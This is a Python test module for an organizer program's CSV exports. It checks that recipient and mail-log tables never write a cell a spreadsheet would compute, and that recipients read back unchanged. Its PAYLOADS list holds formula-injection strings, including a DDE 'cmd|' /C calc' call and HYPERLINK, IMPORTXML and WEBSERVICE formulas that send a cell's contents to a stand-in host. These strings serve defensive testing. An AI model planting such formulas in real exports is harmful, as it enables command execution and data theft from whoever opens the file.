"""Promise 11: no table that the program writes makes a spreadsheet compute, and reading it back gives the same."""

import csv
import io
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from datetime import date

from organizer.domain.campaign import Recipient
from organizer.domain.letter import Delivery
from organizer.domain.mailing import Mailing
from organizer.domain.phrase import phrase
from organizer.exchange.csv_table import read_table
from organizer.exchange.csv_text import csv_bytes
from organizer.exchange.recipients_csv import COLUMNS, guess_columns, recipients_of
from organizer.exchange.recipients_text import recipients_bytes
from organizer.papers.log_table import log_table
from organizer.store.pages.mail_log import LogLine, Standing
from tests.promises.children import crash
from tests.promises.mutations import naughty
from tests.promises.promise import Measured, Promise, Sizes, Trial
from tests.promises.weakened import put

_SIGNS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠")  # noqa: RUF001 - the full-width ones
_UNSAFE = tuple(sign for sign in _SIGNS if sign != "＠")  # noqa: RUF001 - guarded too, though nothing computes it
_FORMULAS = (
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x.example/?"&A1,"click")', 'IMPORTXML("http://x.example/"&A1,"//a")',
    "SUM(1,1)*cmd|' /C calc'!A0", 'WEBSERVICE("http://x.example/")', "A1", "1", "", '"', "'", "x;=1+1", 'x","=1+1',
    "x\n=1+1", "x\r\n=1+1", "x\t=1+1",
)  # fmt: skip
PAYLOADS = (
    *(f"{sign}{formula}" for sign in _SIGNS for formula in _FORMULAS),
    "'=1+1", "''=1+1", "'", "'+1 555 0100", "+1 555 0100", "@handle", "-5", " =1+1", "\u00a0=1+1", "\ufeff=1+1",
    '"=1+1"', ",=1+1", ";=1+1", "=1+1;", "a,b", 'a"b', "a'b", "  spaces  ", "\x0b=1", "\x0c=1", "\x1f=1", "\u2028=1",
)  # fmt: skip
_RECIPIENT = ("name", "unit", "agency", "source", "reason", "address")


@dataclass(frozen=True, slots=True)
class Table:
    """One table that the program writes: its fields, and the bytes of one with a text in one of them."""

    name: str
    fields: tuple[str, ...]
    write: Callable[[str, str], bytes]


def _recipient(field: str, text: str) -> tuple[Recipient, str]:
    words: dict[str, str] = {
        "name": "A name",
        "unit": "",
        "agency": "",
        "source": "web page",
        "reason": "why",
        field: text,
    }
    reason = words.pop("reason")
    words.pop("address", None)
    address = (text if field == "address" else "1 Main Street", "Town, VA 22000")
    return Recipient("member_of_congress", **words, address=address, checked_on=date(2010, 9, 30)), reason


def _recipients(field: str, text: str) -> bytes:
    return recipients_bytes([_recipient(field, text)])


def _log(field: str, text: str) -> bytes:
    fields = {"to": (text,)} if field == "to" else {field: text}
    words = {name: value for name, value in fields.items() if name not in ("title", "place")}
    mailing = Mailing("m", "notice-ice", Delivery.CERTIFIED, date(2010, 9, 27), **words)  # type: ignore[arg-type]
    title, place = (text if field == name else "x" for name in ("title", "place"))
    line = LogLine(
        "m",
        "c",
        place,
        "day",
        date(2010, 9, 27),
        ("notice-ice",),
        title,
        "to",
        phrase("n"),
        phrase("Mailed"),
        Standing.MAILED,
        mailing=mailing,
    )
    return log_table([line])


def _plain(field: str, text: str) -> bytes:
    return csv_bytes(("a", "b", "c"), [["x", text, "y"], [text, "x", "y"], ["x", "y", text]] if field == "any" else [])


TABLES = (
    Table("recipients", _RECIPIENT, _recipients),
    Table("mail log", ("to", "by", "post_office", "signed_by", "returned_why", "note", "copy", "title", "place"), _log),
    Table("any table", ("any",), _plain),
)


def measure(trial: Trial) -> Measured:
    """Put one text after the other into each field of each table, look at each cell, and read recipients back."""
    if trial.weaken:
        trial.weaken()
    tried = [(table, field, text) for table in TABLES for field in table.fields for text in (*PAYLOADS, *naughty())]
    trial.dice().shuffle(tried)
    first = [(TABLES[2], "any", text) for text in PAYLOADS[:4]]
    faults, cells = list[str](), 0
    for table, field, text in [*first, *tried][: trial.runs]:
        try:
            written = table.write(field, text)
        except Exception as failure:  # noqa: BLE001 - every one of them is a fault
            faults.append(f"{table.name}.{field} {text[:40]!r}: {crash(failure)}")
            continue
        rows = list(csv.reader(io.StringIO(written.decode(), newline=""), strict=True))
        cells += sum(map(len, rows))
        faults += [
            f"{table.name}.{field} {text[:40]!r}: {fault}" for fault in _wrong(table, rows, written, field, text)
        ]
    runs = min(trial.runs, len(tried) + len(first))
    figure = f"{len(faults)} unsafe or not equal again in {runs:,} tables, {cells:,} cells"
    return Measured(runs, f"{figure}, {len(PAYLOADS)} payloads of our own", tuple(faults))


def _wrong(table: Table, rows: Sequence[Sequence[str]], written: bytes, field: str, text: str) -> list[str]:
    faults = [f"the cell begins so: {cell[:10]!r}" for row in rows for cell in row if cell.startswith(_UNSAFE)]
    if len({len(row) for row in rows}) > 1:
        faults.append("a cell broke out of its row")
    if table.name == "recipients" and not faults:
        faults += _not_equal(written, field, text)
    return faults


def _not_equal(written: bytes, field: str, text: str) -> list[str]:
    """Return what is wrong with the recipient that comes back; one with a sign that nobody sees may be refused."""
    recipient, reason = _recipient(field, text)
    table = read_table(written, lambda heading: heading in COLUMNS)
    found = recipients_of(table, guess_columns(table.headings), ("member_of_congress",))
    if found.errors:
        told = [
            entry
            for entry in found.errors
            if field in entry.key or entry.problem.code in ("line_break", "characters", "too_long")
        ]
        return [] if told else [f"refused without the place: {found.errors[0].sentence}"]
    back = found.rows[0]
    was = (*_seen(recipient), reason.strip())
    return [] if (*_seen(back.recipient), back.reason.strip()) == was else [f"comes back as {back}"]


def _seen(recipient: Recipient) -> tuple[object, ...]:
    lines = tuple(line.strip() for line in recipient.address or () if line.strip())
    texts = (recipient.name, recipient.unit, recipient.agency, recipient.source)
    return (*((text or "").strip() for text in texts), lines, recipient.checked_on)


def write_raw() -> None:
    """Let cells be written as they are, as ``csv.writer`` does."""
    put("organizer.exchange.csv_text", "_safe", lambda cell: cell)


INJECT_CSV = Promise(
    11,
    "inject-csv",
    "formula strings in every field of every table",
    measure,
    Sizes(20_000, 3_000, 200),
    write_raw,
    "raw csv.writer",
    Sizes(2_000, 500, 20),
)
